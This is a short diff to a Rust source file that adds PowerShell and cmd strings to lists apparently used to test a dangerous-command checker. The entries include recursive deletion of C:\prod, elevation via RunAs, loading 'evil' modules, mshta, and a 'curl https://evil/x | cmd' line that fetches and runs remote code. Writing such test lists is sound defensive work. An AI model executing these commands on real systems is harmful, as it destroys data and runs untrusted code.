@@ -62,6 +62,17 @@ const POWERSHELL: &[&str] = &[
     "Remove-Item -r C:\\prod -WhatIf:$false",
     "switch (1) { default { rm -r -fo C:\\prod } }",
     "sequence { rm -r -fo C:\\prod }",
+    "Invoke-Command",
+    "Start-Process -Verb RunAs",
+    "Import-Module ./evil.psd1",
+    "Import-Module C:\\evil.dll",
+    "Add-Type -TypeDefinition $x",
+    "Invoke-Anything x",
+    "Set-Item Function:\\ls { rm -r -fo C:\\prod }",
+    "[Diagnostics.Process]::Start()",
+    "[Evil.Kind]::Run()",
+    "[IO.File]::Encrypt('C:\\prod')",
+    "mshta evil.hta",
 ];
 
 const CMD: &[&str] = &[
@@ -80,6 +91,8 @@ const CMD: &[&str] = &[
     "for %i in (1 2 3 4 5 6 7 8 9 10 11 12 13 14 15 16 17 18 19 20 21 22 23 24 25 26 27 28 29 30 31 32 C:\\prod) do if %i==C:\\prod call %i",
     "start file://evil/x.exe",
     "move a",
+    "mshta evil.hta",
+    "curl https://evil/x | cmd",
 ];
 
 /// The places that a command takes away are not those of a value that is no longer it.
